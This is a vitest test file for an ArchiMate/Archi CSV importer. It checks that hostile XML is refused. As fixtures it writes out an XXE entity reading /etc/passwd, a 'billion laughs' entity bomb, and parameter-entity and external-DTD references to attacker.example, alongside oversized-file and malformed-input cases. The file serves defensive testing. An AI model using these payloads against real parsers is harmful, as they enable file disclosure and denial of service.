import { describe, it, expect, beforeAll, afterAll } from 'vitest';
import { mkdir, mkdtemp, readFile, rm, truncate, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { InputError } from '../../src/errors.js';
import { XML_DEFAULTS, loadArchimate, loadArchiCsv } from '../../src/interop/index.js';
import { readLimited } from '../../src/interop/xml.js';

const MADIUN = fileURLToPath(new URL('../fixtures/interop/madiun-ea.xml', import.meta.url));
const HEAD = '<?xml version="1.0" encoding="UTF-8"?>';
const MODEL = (body: string): string =>
  `<model xmlns="http://www.opengroup.org/xsd/archimate/3.0/" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" identifier="m">${body}</model>`;
const COMPONENT = (name: string): string => `<elements><element identifier="c1" xsi:type="ApplicationComponent"><name>${name}</name></element></elements>`;

let dir: string;

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'siloscope-hostile-'));
});

afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

async function refusal(name: string, content: string | Buffer, options: Parameters<typeof loadArchimate>[1] = {}): Promise<InputError> {
  const path = join(dir, name);
  await writeFile(path, content);
  const error = await loadArchimate(path, options).catch((e: unknown) => e);
  expect(error).toBeInstanceOf(InputError);
  expect((error as InputError).exitCode).toBe(2);
  return error as InputError;
}

describe('hostile XML is refused with exit code 2 and a clear message', () => {
  it('an external entity (XXE) reading a local file', async () => {
    const xml = `${HEAD}\n<!DOCTYPE model [\n  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n${MODEL(COMPONENT('&xxe;'))}`;
    const error = await refusal('xxe.xml', xml);
    expect(error.issues[0]!.file).toBe('xxe.xml:3');
    expect(error.message).toContain('declares XML entities');
    expect(error.message).not.toContain('root:');
  });

  it('an entity-expansion bomb ("billion laughs")', async () => {
    const entities = ['<!ENTITY lol "lol">', ...Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`)];
    const xml = `${HEAD}\n<!DOCTYPE model [\n${entities.join('\n')}\n]>\n${MODEL(COMPONENT('&lol9;'))}`;
    const error = await refusal('lol.xml', xml);
    expect(error.issues[0]!.file).toBe('lol.xml:3');
    expect(error.message).toContain('"billion laughs"');
  });

  it('a parameter entity pulling in an external DTD', async () => {
    const xml = `${HEAD}\n<!DOCTYPE model [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>\n${MODEL(COMPONENT('x'))}`;
    expect((await refusal('param.xml', xml)).message).toContain('declares XML entities');
  });

  it('an external DTD subset', async () => {
    const xml = `${HEAD}\n<!DOCTYPE model SYSTEM "http://attacker.example/model.dtd">\n${MODEL(COMPONENT('x'))}`;
    const error = await refusal('dtd.xml', xml);
    expect(error.issues[0]!.file).toBe('dtd.xml:2');
    expect(error.message).toContain('external DTD');
  });

  it('leaves undeclared entity references as text instead of resolving them', async () => {
    const path = join(dir, 'undeclared.xml');
    await writeFile(path, `${HEAD}\n${MODEL(COMPONENT('SIPD &amp; &#8211; &nbsp;'))}`);
    const inventory = await loadArchimate(path);
    expect(inventory.applications[0]!.name).toBe('SIPD & – &nbsp;');
  });

  it('a file over a configured size limit, refused from its size before it is read', async () => {
    const error = await refusal('model.xml', await readFile(MADIUN), { maxBytes: 1000 });
    expect(error.message).toMatch(/the file is \d+ bytes, over the 1000 bytes limit for this format; it was not read\./);
    expect(error.issues[0]!.fix).toContain('SILOSCOPE_XML_MAX_BYTES');
  });

  it('a file over the default limit, refused by its size on disk without reading it (a sparse file: nothing is written)', async () => {
    const path = join(dir, 'huge.xml');
    await writeFile(path, '');
    await truncate(path, XML_DEFAULTS.maxBytes + 1);
    const error = await loadArchimate(path).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(InputError);
    // Read, the zeros would have failed as "not well-formed XML"; the size message proves nothing was read.
    expect((error as InputError).message).toContain(`the file is 256.0 MiB (${XML_DEFAULTS.maxBytes + 1} bytes), over the 256.0 MiB limit for this format; it was not read.`);
  });

  it('a stream with no size on disk, cut off at the limit while reading', async () => {
    const error = await readLimited('/dev/zero', 2 * 1024 * 1024, 'zero').catch((e: unknown) => e);
    expect(error).toBeInstanceOf(InputError);
    expect((error as InputError).message).toContain('the file is more than 2.0 MiB');
  });

  it('one text node longer than the configured text limit, naming its line', async () => {
    const xml = `${HEAD}\n${MODEL(`\n<elements><element identifier="c1" xsi:type="ApplicationComponent"><name>x</name>\n<documentation>${'A'.repeat(5000)}</documentation></element></elements>`)}`;
    const error = await refusal('text.xml', xml, { maxTextLength: 4096 });
    expect(error.issues[0]!.file).toBe('text.xml:4');
    expect(error.message).toContain('a text node of 5000 characters starts here, over the limit of 4096 for one value');
  });

  it('malformed XML, naming line and column', async () => {
    const error = await refusal('broken.xml', `${HEAD}\n${MODEL('\n<elements>\n<element identifier="c1"></elements>')}`);
    expect(error.issues[0]!.file).toBe('broken.xml:4');
    expect(error.message).toContain('not well-formed XML');
  });

  it('the same size limit guards Archi CSV files', async () => {
    const folder = join(dir, 'csv');
    await rm(folder, { recursive: true, force: true });
    await mkdir(folder);
    await writeFile(join(folder, 'elements.csv'), `"ID","Type","Name","Documentation"\n${'"a","BusinessActor","x",""\n'.repeat(100)}`);
    await writeFile(join(folder, 'relations.csv'), '"ID","Type","Name","Documentation","Source","Target"\n');
    const error = await loadArchiCsv(folder, { maxBytes: 500 }).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(InputError);
    expect((error as InputError).issues[0]!.file).toBe('elements.csv');
  });
});
